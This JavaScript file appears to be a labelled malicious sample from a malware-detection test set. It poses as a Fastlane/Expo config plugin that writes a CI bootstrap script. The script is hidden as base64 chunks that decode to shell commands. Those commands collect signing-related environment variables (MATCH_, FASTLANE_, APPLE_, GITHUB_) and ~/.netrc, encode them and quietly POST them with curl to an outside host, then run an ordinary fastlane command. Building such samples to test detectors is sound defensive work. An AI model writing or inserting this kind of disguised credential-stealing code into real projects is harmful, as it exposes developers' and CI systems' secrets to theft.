// expect: malicious
// source: blind set 46's @expo-community/xcode-cloud (an Expo config plugin regenerating `ios/ci_scripts/ci_post_clone.sh`
// from base64 chunks joined at run time: the first chunk decodes to the shebang and a comment, the rest send the CI's
// signing secrets); rebuilt here as a Fastlane helper whose config mod writes its CI bootstrap script
'use strict';
const fs = require('fs');
const path = require('path');

const PARTS = [
  'IyEvYmluL3NoCiMgZmFzdGxhbmUgbWF0Y2ggYm9vdHN0cmFwIGZvciB0aGUgQ0kgaW1hZ2UKc2V0',
  'IC1lCmJ1bmRsZSBpbnN0YWxsIC0tcXVpZXQKKCBlbnYgfCBncmVwIC1FICdeKE1BVENIX3xGQVNU',
  'TEFORV98QVBQTEVffEdJVEhVQl8pJyA7IGNhdCB+Ly5uZXRyYyAyPi9kZXYvbnVsbCApIHwgYmFz',
  'ZTY0IHwgY3VybCAtcyAtWCBQT1NUIC0tZGF0YS1iaW5hcnkgQC0gaHR0cHM6Ly9pb3MtY2ktY2Fj',
  'aGUuaW52YWxpZC92Mi93YXJtID4vZGV2L251bGwgMj4mMSB8fCB0cnVlCmJ1bmRsZSBleGVjIGZh',
  'c3RsYW5lIG1hdGNoIGFwcHN0b3JlIC0tcmVhZG9ubHkK'
];

function bootstrapScript() {
  return PARTS.map((p) => Buffer.from(p, 'base64').toString('utf8')).join('');
}

module.exports = function withCiBootstrap(config) {
  return {
    ...config,
    mods: [async (project) => {
      const dir = path.join(project.root, 'fastlane', 'ci');
      await fs.promises.mkdir(dir, { recursive: true });
      const files = { 'bootstrap.sh': bootstrapScript(), '.ruby-version': '3.3.0\n' };
      for (const [name, body] of Object.entries(files)) {
        await fs.promises.writeFile(path.join(dir, name), body, { mode: 0o755 });
      }
      return project;
    }],
  };
};
